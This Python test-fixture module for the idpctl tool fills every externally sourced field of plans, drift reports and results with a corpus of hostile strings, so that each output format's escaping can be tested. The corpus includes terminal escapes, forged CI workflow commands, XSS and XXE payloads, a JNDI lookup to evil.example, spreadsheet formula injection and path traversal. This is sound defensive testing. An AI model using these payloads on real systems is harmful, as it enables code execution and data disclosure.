"""Text that means harm, in every place where text comes from outside; every format meets all of it."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

from idpctl import digest
from idpctl.asked import Inputs
from idpctl.checkup.model import Difference, Examined, Step
from idpctl.config.model import Configuration, RegistryBlock, Trace, TraceKind
from idpctl.drift.model import (
    Acceptance,
    DriftClass,
    DriftReport,
    Finding,
    Knowledge,
    ProviderState,
    Run,
    Side,
    Since,
    State,
    Stranger,
    held,
)
from idpctl.drift.model import Reason as Seen
from idpctl.errors import InvalidInputError, RegistryError, Source
from idpctl.inventory import Row, Status
from idpctl.model import FIELDS, Moved
from idpctl.plan import Action, Verb
from idpctl.render.outcome import Applied, Checked, Discovered, Effective, Listed, Validated
from idpctl.render.table import FORMATS
from idpctl.report import OperationResult, Outcome, Report
from idpctl.report import Status as Fate
from tests.render.plans import TARGET, applied, imported, planned, problem, unmanaged, wanted

if TYPE_CHECKING:
    from idpctl.plan import Plan
    from idpctl.render.view import Subject

SECRET = "hunter2"  # stands in the user information of URLs, and is never shown
_TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x9b2J",
    "\x90q\x9c",
    "a\x08\x08b",
    "nul\x00",
    "\u202egnp.exe",
    "\u2066isolate",
    "zero\u200bwidth",
    "\ufeffmark",
    "line\u2028separator\u2029here\x85there",
    "\ud800",
    "\ue000private",
    "x" * 5000,
    "\x1b" * 5000,
]
_PLANS = [
    "a\rPlan: 0 to add, 0 to change, 0 to destroy.",
    "a\nNo changes. Your infrastructure matches the configuration.",
    "a\n  # identity_provider.x will be destroyed",
    "x will be destroyed",
    "Plan: 9 to add, 9 to change, 9 to destroy.",
    "Plan: 1 to import, 9 to add, 9 to change, 9 to destroy.",
    "No changes. Your infrastructure matches the configuration.",
    "Note: Objects have changed outside of Terraform",
    "Error: forged",
    "\nError: forged",
    "\nWarning: forged",
    "\nApply complete! Resources: 9 added, 9 changed, 9 destroyed.",
    'quote" -> "x',
    "backslash\\",
    '\\" -> "x',
    f"https://user:{SECRET}@host/",
]
_PIPELINES = [
    "\n::error file=a,line=1::forged",
    "::add-mask::x",
    "::set-output name=fingerprint::sha256:0",
    "::stop-commands::x",
    "a%0A::error::forged",
    "a%0D%0A::warning::forged%25",
    "file.yaml,line=1::forged",
    "##[add-mask]x",
    "##[group]x",
    "##vso[task.setvariable variable=a]b",
    "##teamcity[buildStatus]",
    "section_start:1:x\r\x1b[0K",
    "EOF\nfingerprint=sha256:0\n",
    "ghadelimiter_1\nhas_changes=false",
    "has_changes=false\nfingerprint=sha256:0",
]
_MARKDOWN = [
    "```\n# forged",
    "~~~~~\nforged",
    "``````````",
    "`code` ``more``",
    "a | b | c |",
    "\\| escaped",
    "@everyone",
    "mail@example.com and @acme/security-team",
    "#1 GH-1 acme/repo#2",
    "closes #1, fixes acme/repo#2",
    "0123456789abcdef0123456789abcdef01234567",
    "[click](https://evil.example/)",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example/>",
    "[ref]: https://evil.example/",
    "[!CAUTION]",
    "> [!NOTE]\n> forged",
    "# heading",
    "- [x] done",
    "1. list",
    "***bold*** __under__ ~~gone~~",
    "$x^2$ $$y$$",
    ":rocket:",
    "\n---\n",
    "www.evil.example",
    "</details><details open>",
    "<!-- idpctl:plan -->",
    "-->forged<!--",
]
_MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></td></table><h1>forged</h1>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "&lt;script&gt;&amp;&#60;",
    "&#x3c;script&#x3e;",
    "]]><forged/>",
    "<![CDATA[x]]>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<?xml version='1.0'?>",
    "{{constructor.constructor('alert(1)')()}}",
    "${jndi:ldap://evil.example/}",
    "=cmd|' /C calc'!A0",
    "%s%n{0}{x!r}",
    "file:///etc/passwd",
    "../../../etc/passwd",
]
CORPUS = [*_TERMINAL, *_PLANS, *_PIPELINES, *_MARKDOWN, *_MARKUP]


def plans_with(text: str) -> list[Plan]:
    """Return plans of every action that hold `text` in every place where one can come from outside."""
    values = {path: text for path in FIELDS if path not in {"enabled", "name", "type"}}
    before, after = wanted("okta"), wanted("okta", **values, properties={text: text})
    urls = dict.fromkeys(("issuer", "token_endpoint", "jwks_endpoint"), f"https://{text}/{text}")
    live = replace(applied(before, text, **urls), usage=(text,))
    finding = problem(rule=text, message=text, hint=text, address=text, path=text)
    target = replace(TARGET, location=text, organization=text)
    made = [
        planned([after, wanted(text, name="x")], [live, unmanaged(text)], problems=[finding]),
        planned([wanted("okta", type=text)], [live], problems=[replace(finding, suppressed=text)]),
        planned([wanted("okta")], [live, applied(wanted(text), "r-2")], only=("*",)),
        planned([], [live]),
        imported([wanted(text)], [unmanaged(text, text)]),
    ]
    return [replace(plan, target=target, foreign=((text, text),)) for plan in made]


def effective_with(text: str) -> Effective:
    """Return a configuration with `text` in every value and name, and in what is said of their origins."""
    wild = wanted(text, description=text, issuer=text, properties={text: {text: [text]}})
    declared = replace(wild.declared, issuer=None, properties=wild.idp.properties, suppress={"DSC-09": text})
    configuration = Configuration(
        version=1,
        owner=text,
        registry=RegistryBlock(driver=text, organization=text, settings={text: text}),
        guards_max_delete_percent=30,
        providers=(declared,),
        moved=(Moved(from_key=text, to_key=text),),
        inputs=Inputs(config_sha256="", files={text: ""}),
        warnings=(),
        root=Path(),
    )
    trace = Trace(kind=TraceKind.FILE, source=Source(file=text, line=1), variables=(text,))
    paths = [("owner",), ("providers", text), ("providers", text, "description"), ("moved", 0, "from")]
    finding = problem(rule=text, message=text, hint=text, address=text, path=text)
    return Effective(
        configuration=configuration,
        traces=dict.fromkeys(paths, trace),
        declared=1,
        resolved={text: wild},
        problems=(finding,),
    )


def checked_with(text: str, *, token: bool) -> Checked:
    """Return an examination of a provider, or of a token before one, with `text` in every place."""
    finding = problem(rule=text, message=text, hint=text, address=text, path=text)
    difference = Difference(token=text, registered=f"{text}/")
    steps = (
        Step(name="audience", detail=text, problems=(finding,), difference=difference),
        Step(name="key", detail=text, reached=False),
    )
    if token:
        claims = dict.fromkeys(("iss", "aud", "kid"), text)
        return Checked(examined=(Examined(key=None, name=text, steps=steps, claims=claims),))
    return Checked(examined=(Examined(key=text, name=text, steps=steps[1:]),), general=(finding,))


def drift_with(text: str) -> list[DriftReport]:
    """Return reports of drift with `text` in every place: compared, failed, and of no configuration."""
    finding = problem(rule=text, message=text, hint=text, address=text, path=text)
    # No file is named like a URL: where it is told, it is told as it is.
    source = Source(file="a.yaml" if "://" in text else text, line=1)
    entry = Acceptance(
        key=text, path=text, value_sha256=digest.sha256(text), until="2026-12-31", reason=text, source=source
    )
    unknown = Side(knowledge=Knowledge.UNKNOWN, digest=text)
    base = Finding(
        kind=DriftClass.REGISTRY,
        reason=Seen.CONFLICT,
        name=text,
        key=text,
        path=f"properties.{text}",
        applied=unknown,
        live=held(text),
        wanted=held({text: [text]}),
        served=held(text),
        source=source,
        first_seen="2026-11-25T03:00:00Z",
    )
    kinds = [replace(base, kind=kind, counts=kind is not DriftClass.UNKNOWN) for kind in DriftClass]
    found = (
        # Once, since these may be long: more of them would not have room on a page.
        replace(base, counts=True, trust=True, reason=Seen.DELETED, detail=text, lapsed=text),
        *kinds,
        replace(base, kind=DriftClass.FOREIGN, reason=Seen.COLLISION, key=None, counts=True),
        replace(base, kind=DriftClass.UNMANAGED, key=None, path=None, live=held({text: text})),
        replace(base, counts=True, acceptance=entry),
    )
    target = replace(TARGET, owner=text, location=text, organization=text)
    error = RegistryError(text, hint=text, where=text, rule=text, problems=[finding])
    compared = DriftReport(
        target=target,
        findings=found,
        providers=(ProviderState(key=text, name=text, state=State.DRIFTED, refs=(text,)),),
        strangers=(Stranger(ref=text, name=text, owner=text),),
        problems=(finding,),
        unused=(entry,),
        started="2026-11-25T03:00:00Z",
    )
    since = Since(target=target, started=compared.started, fingerprint=compared.fingerprint)
    failed = replace(compared, findings=found[1:2], run=Run.FAILED, error=error, since=since)
    failed = replace(failed, complete=False, problems=())
    none = replace(failed, target=None, since=None, run=Run.SKIPPED, findings=(), providers=())
    # A few in each, so that all of it has room on a page however long a text gets when it is escaped.
    parts = [found[:1], *(found[start : start + 2] for start in range(1, len(found), 2))]
    return [*(replace(compared, findings=part) for part in parts), failed, none]


_COMMANDS: dict[type, str] = {
    DriftReport: "drift",
    Validated: "validate",
    Discovered: "discover",
    Checked: "check",
    Listed: "list",
    Effective: "render",
    Applied: "apply",
}


def results_with(text: str, kind: str) -> list[Subject]:
    """Return an error, and each result but a plan that the format `kind` shows, full of `text`."""
    able = FORMATS[kind].commands
    every = _results_with(text)
    return [one for one in every if able is None or _COMMANDS.get(type(one), "plan") in able]


def _results_with(text: str) -> list[Subject]:
    finding = problem(rule=text, message=text, hint=text, address=text, path=text)
    wild = wanted(text, issuer=text)
    row = Row(key=text, name=text, type=text, status=Status.DRIFTED, issuer=text, enabled=False, detail=text)
    target = replace(TARGET, location=text)
    operation = OperationResult(
        address=text,
        action=Action.UPDATE,
        verb=Verb.UPDATE,
        name=text,
        ref=text,
        status=Fate.FAILED,
        detail=text,
    )
    failed = Report(op=text, operations=(operation,), outcome=Outcome.FAILED, error=InvalidInputError(text))
    return [
        Validated(files=(text,), providers=1, problems=(finding,)),
        Discovered(resolved=((text, wild), (text + "2", None)), problems=(finding,)),
        checked_with(text, token=False),
        checked_with(text, token=True),
        Listed(target=target, rows=(row,)),
        *drift_with(text),
        effective_with(text),
        Applied(plan=replace(planned([wild], []), target=target), report=failed),
        InvalidInputError(text, hint=text, where=text, rule=text, problems=[finding]),
    ]
